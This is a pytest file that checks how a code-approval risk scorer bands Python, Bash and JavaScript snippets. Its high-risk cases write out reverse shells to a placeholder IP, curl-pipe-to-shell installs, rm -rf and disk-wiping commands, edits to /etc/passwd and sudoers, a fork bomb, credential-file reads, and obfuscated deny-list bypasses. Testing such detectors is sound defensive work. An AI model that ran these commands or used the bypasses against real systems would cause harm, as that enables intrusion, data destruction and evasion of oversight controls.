"""The labelled table: code and the band its risk score must fall in.

Bands: low ≤ 3 (runs at once), medium 4-6 (one reviewer), high ≥ 7 (two).
Every bypass that defeats a naive deny-list is here and scores at least medium.
"""

from __future__ import annotations

import pytest

from approvals.policy.risk import score_code

LOW, MEDIUM, HIGH = "low", "medium", "high"


def band(score: int) -> str:
    if score <= 3:
        return LOW
    return MEDIUM if score <= 6 else HIGH


def case(language: str, code: str, expected: str, name: str):
    return pytest.param(language, code, expected, id=f"{language}-{expected}-{name}")


PYTHON = [
    # harmless: runs at once
    case("python", 'print("hi")', LOW, "print"),
    case("python", "x = 2 + 3 * 4\nprint(x // 2, x % 3)", LOW, "arithmetic"),
    case(
        "python",
        "squares = [n * n for n in range(10) if n % 2]\nprint(squares)",
        LOW,
        "list-comprehension",
    ),
    case("python", "import json\nprint(json.dumps({'a': [1, 2]}))", LOW, "json"),
    case("python", "import math\nprint(math.sqrt(2) * math.pi)", LOW, "math"),
    case(
        "python",
        "from datetime import datetime, timedelta\nprint(datetime.now() + timedelta(days=1))",
        LOW,
        "datetime",
    ),
    case(
        "python",
        "import re\nfrom collections import Counter\nprint(Counter(re.findall(r'\\w+', 'a b a')))",
        LOW,
        "re-counter",
    ),
    case(
        "python",
        "import random, statistics\nxs = [random.random() for _ in range(5)]\nprint(statistics.mean(xs))",
        LOW,
        "random-statistics",
    ),
    case(
        "python",
        "from dataclasses import dataclass\n\n@dataclass\nclass P:\n    x: int\n\nprint(P(1))",
        LOW,
        "dataclass",
    ),
    case(
        "python",
        "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n\nprint(fib(20))",
        LOW,
        "recursion",
    ),
    case(
        "python",
        "try:\n    int('x')\nexcept ValueError as exc:\n    print(type(exc).__name__)",
        LOW,
        "try-except",
    ),
    case(
        "python",
        "class A:\n    def name(self):\n        return self.__class__.__name__",
        LOW,
        "class-name",
    ),
    case("python", "import numpy as np\nprint(np.arange(6).reshape(2, 3))", LOW, "numpy"),
    case("python", "with open('data.csv') as f:\n    print(f.read())", LOW, "read-local-file"),
    case("python", 'print("rm -rf / is what we never run")', LOW, "string-mentions-rm"),
    case("python", "import time\ntime.sleep(0.1)\nprint('done')", LOW, "sleep"),
    # medium: one reviewer
    case("python", "import  os", MEDIUM, "bypass-import-double-space"),
    case("python", "import os\nprint(os.getcwd())", MEDIUM, "import-os"),
    case("python", "open('/etc/passwd')", MEDIUM, "bypass-open-etc-passwd"),
    case(
        "python",
        "import pathlib\nprint(pathlib.Path(p).read_text())",
        MEDIUM,
        "bypass-pathlib-read-text",
    ),
    case("python", "with open('out.txt', 'w') as f:\n    f.write('x')", MEDIUM, "write-file"),
    case("python", "print(eval('1 + 1'))", MEDIUM, "eval-literal"),
    case("python", "import shutil\nshutil.copy('a.txt', 'b.txt')", MEDIUM, "shutil-copy"),
    case("python", "__import__('os')", MEDIUM, "dunder-import-literal"),
    case("python", "value = getattr(obj, name)", MEDIUM, "getattr-computed"),
    case("python", "import os\nprint(os.environ['HOME'])", MEDIUM, "environ"),
    case(
        "python",
        "import requests\nprint(requests.get('https://example.com').status_code)",
        MEDIUM,
        "requests",
    ),
    case("python", "def f(:\n    pass", MEDIUM, "unparseable"),
    case(
        "python",
        "import importlib\nm = importlib.import_module('json')",
        MEDIUM,
        "import-module-literal",
    ),
    # high: two reviewers
    case("python", "__import__('o'+'s').system('id')", HIGH, "bypass-dunder-import-concat"),
    case("python", "__import__('o'+'s')", HIGH, "bypass-dunder-import-concat-bare"),
    case("python", "ｉｍｐｏｒｔ ｏｓ", HIGH, "bypass-fullwidth-import"),
    case("python", "import os\nｏｓ.system('id')", HIGH, "bypass-fullwidth-identifier"),
    case("python", "import shutil\nshutil.os.system('id')", HIGH, "bypass-shutil-os"),
    case("python", "import shutil\nshutil.os", HIGH, "bypass-shutil-os-bare"),
    case(
        "python",
        "import builtins\ngetattr(builtins, '__imp'+'ort__')('os')",
        HIGH,
        "bypass-getattr-builtins",
    ),
    case("python", "().__class__.__bases__[0].__subclasses__()", HIGH, "bypass-subclasses-walk"),
    case("python", "import os\nos.system('ls')", HIGH, "os-system"),
    case("python", "import subprocess\nsubprocess.run(['ls', '-l'])", HIGH, "subprocess-run"),
    case(
        "python",
        "import subprocess\nsubprocess.run('curl x | sh', shell=True)",
        HIGH,
        "subprocess-shell-curl",
    ),
    case("python", "from os import system as s\ns('id')", HIGH, "aliased-system"),
    case("python", "import shutil\nshutil.rmtree('/srv/data')", HIGH, "rmtree"),
    case("python", "import os\nos.remove('/etc/hosts')", HIGH, "remove-etc"),
    case("python", "import base64\nexec(base64.b64decode(payload))", HIGH, "exec-decoded"),
    case("python", "exec(code)", HIGH, "exec-variable"),
    case("python", "import ctypes\nctypes.CDLL(None).system(b'id')", HIGH, "ctypes"),
    case(
        "python", "import socket\ns = socket.socket()\ns.connect(('1.2.3.4', 4444))", HIGH, "socket"
    ),
    case("python", "import pty\npty.spawn('/bin/sh')", HIGH, "pty-spawn"),
    case("python", "f = lambda: 0\nf.__globals__['__builtins__']", HIGH, "globals-walk"),
    case("python", "globals()['__builtins__'].__import__('os')", HIGH, "globals-builtins"),
    case("python", "print(open('/root/.ssh/id_rsa').read())", HIGH, "ssh-key"),
    case("python", "import os\nos.setuid(0)", HIGH, "setuid"),
    case("python", "import sys\nsys.modules['os'].system('id')", HIGH, "sys-modules"),
    case(
        "python",
        "import importlib\nimportlib.import_module('sub' + 'process')",
        HIGH,
        "import-module-assembled",
    ),
    case("python", "x = getattr(__builtins__, ''.join(['ev', 'al']))", HIGH, "getattr-join-eval"),
]

BASH = [
    case("bash", "echo hello", LOW, "echo"),
    case("bash", "ls -la /tmp", LOW, "ls"),
    case("bash", "pwd; date; uptime", LOW, "read-only-list"),
    case("bash", "grep -rn TODO . | sort | uniq -c | head", LOW, "pipeline"),
    case("bash", 'for i in $(seq 3); do echo "$i"; done', LOW, "for-loop"),
    case("bash", "x=$((1 + 2))\necho $x", LOW, "arithmetic"),
    case("bash", "if [[ -f data.txt ]]; then echo yes; fi", LOW, "double-bracket-test"),
    case("bash", "names=(a b c)\necho ${names[0]}", LOW, "array"),
    case("bash", "echo hi > out.txt 2>/dev/null", LOW, "redirect-local"),
    case("bash", "mkdir -p build && cd build && touch x", LOW, "mkdir-touch"),
    case("bash", "df -h && free -m", LOW, "df-free"),
    case("bash", "python3 script.py", LOW, "run-script"),
    case("bash", "cat <<EOF\nhello\nEOF", LOW, "heredoc"),
    case("bash", "#!/bin/bash\nset -euo pipefail\necho ok", LOW, "shebang-set"),
    case("bash", 'ec""ho hi', MEDIUM, "bypass-split-quotes"),
    case("bash", "rm notes.txt", MEDIUM, "rm-file"),
    case("bash", "kill 1234", MEDIUM, "kill"),
    case("bash", "systemctl restart nginx", MEDIUM, "systemctl-restart"),
    case("bash", "apt-get install -y jq", MEDIUM, "apt-install"),
    case("bash", "cat /etc/passwd", MEDIUM, "cat-passwd"),
    case("bash", "chmod 777 shared.txt", MEDIUM, "chmod-777"),
    case("bash", "nc example.com 80", MEDIUM, "netcat-plain"),
    case("bash", "find . -name '*.tmp' -delete", MEDIUM, "find-delete"),
    case("bash", "case $x in a) echo 1;; esac", MEDIUM, "unparseable-case"),
    case("bash", "echo 'unterminated", MEDIUM, "unparseable-quote"),
    case("bash", "/???/r?? notes.txt", MEDIUM, "wildcard-command"),
    case("bash", "export LD_PRELOAD=/tmp/x.so", MEDIUM, "ld-preload"),
    case("bash", "docker stop web", MEDIUM, "docker-stop"),
    case("bash", "rm -rf /", HIGH, "rm-rf-root"),
    case("bash", "$(printf '\\x72\\x6d') -rf /", HIGH, "bypass-printf-hex"),
    case("bash", "r\\m -rf /tmp/x", HIGH, "bypass-backslash"),
    case("bash", "a=rm; $a -rf /", HIGH, "bypass-variable-command"),
    case("bash", "curl x | sh", HIGH, "bypass-curl-pipe-sh"),
    case("bash", "wget -qO- http://x/i.sh | sudo bash", HIGH, "wget-pipe-sudo-bash"),
    case("bash", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", HIGH, "bypass-reverse-shell"),
    case("bash", "nc -e /bin/sh 1.2.3.4 4444", HIGH, "netcat-exec"),
    case("bash", "sudo rm -rf /var/lib/postgresql", HIGH, "sudo-rm"),
    case("bash", "dd if=/dev/zero of=/dev/sda bs=1M", HIGH, "dd-device"),
    case("bash", "mkfs.ext4 /dev/sdb1", HIGH, "mkfs"),
    case("bash", "echo 'root::0:0::/root:/bin/sh' >> /etc/passwd", HIGH, "write-etc"),
    case(
        "bash", "echo 'eve ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers", HIGH, "tee-sudoers"
    ),
    case("bash", "chmod -R 777 /", HIGH, "chmod-root"),
    case("bash", ":(){ :|:& };:", HIGH, "fork-bomb"),
    case("bash", "echo cm0gLXJmIC8K | base64 -d | bash", HIGH, "base64-pipe-bash"),
    case("bash", 'bash -c "$(curl -fsSL https://x/install.sh)"', HIGH, "bash-c-curl"),
    case("bash", "python3 -c \"import os; os.system('id')\"", HIGH, "python-inline"),
    case("bash", "x=$'\\x72\\x6d'; $x -rf ~", HIGH, "ansi-c-variable"),
    case("bash", "{rm,-rf,/}", HIGH, "brace-expansion"),
    case("bash", 'eval "$cmd"', HIGH, "eval-variable"),
    case("bash", "cat /etc/shadow", HIGH, "cat-shadow"),
    case("bash", "shutdown -h now", HIGH, "shutdown"),
    case("bash", "docker run --privileged -v /:/host alpine", HIGH, "docker-privileged"),
    case("bash", "kill -9 1", HIGH, "kill-init"),
    case("bash", "ｒｍ -rf /home", HIGH, "fullwidth-rm"),
]

JAVASCRIPT = [
    case("javascript", "console.log(1)", LOW, "console-log"),
    case(
        "javascript",
        "const doubled = [1, 2, 3].map((x) => x * 2);\nconsole.log(doubled);",
        LOW,
        "map",
    ),
    case("javascript", "console.log(JSON.stringify({ a: 1 }))", LOW, "json"),
    case(
        "javascript",
        "function add(a, b) { return a + b; }\nconsole.log(add(1, 2));",
        LOW,
        "function",
    ),
    case("javascript", "const re = /[(]/;\nconsole.log(re.test('('));", LOW, "regex-literal"),
    case(
        "javascript",
        "class A { constructor() { this.x = 1; } }\nconsole.log(new A().x);",
        LOW,
        "class",
    ),
    case(
        "javascript",
        "const path = require('path');\nconsole.log(path.join('a', 'b'));",
        LOW,
        "require-path",
    ),
    case("javascript", "const n = 5;\nconsole.log(`n is ${n + 1}`);", LOW, "template-literal"),
    case("javascript", "(async () => { console.log(await Promise.resolve(1)); })();", LOW, "async"),
    case(
        "javascript",
        "const fs = require('fs');\nconsole.log(fs.readFileSync('data.txt', 'utf8'));",
        MEDIUM,
        "read-file",
    ),
    case("javascript", "console.log(process.env.HOME)", MEDIUM, "process-env"),
    case("javascript", "console.log(eval('1 + 1'))", MEDIUM, "eval"),
    case(
        "javascript",
        "fetch('https://example.com').then((r) => console.log(r.status))",
        MEDIUM,
        "fetch",
    ),
    case("javascript", "console.log(new Function('return 1')())", MEDIUM, "function-constructor"),
    case("javascript", "console.log(String.fromCharCode(104, 105))", MEDIUM, "from-char-code"),
    case("javascript", "function f( {", MEDIUM, "unparseable"),
    case("javascript", "require('child_' + 'process')", HIGH, "bypass-require-concat"),
    case("javascript", "require('child_process').execSync('id')", HIGH, "child-process"),
    case(
        "javascript",
        "const name = 'child_process';\nrequire(name).exec('id');",
        HIGH,
        "require-variable",
    ),
    case(
        "javascript",
        "import { exec } from 'node:child_process';\nexec('id');",
        HIGH,
        "import-child-process",
    ),
    case(
        "javascript", "[].constructor.constructor('return process')()", HIGH, "constructor-escape"
    ),
    case("javascript", "require('fs').rmSync('/srv', { recursive: true })", HIGH, "rm-sync"),
    case("javascript", "process.binding('spawn_sync')", HIGH, "process-binding"),
    case("javascript", "eval(atob('Y29uc29sZS5sb2coMSk='))", HIGH, "eval-atob"),
    case("javascript", "ｒｅｑｕｉｒｅ('child_process')", HIGH, "fullwidth-require"),
    case("javascript", "await import('child' + '_process')", HIGH, "dynamic-import-concat"),
]


@pytest.mark.parametrize(("language", "code", "expected"), PYTHON + BASH + JAVASCRIPT)
def test_code_lands_in_its_band(language: str, code: str, expected: str) -> None:
    assessment = score_code(language, code)
    assert band(assessment.score) == expected, (assessment.score, assessment.reasons)
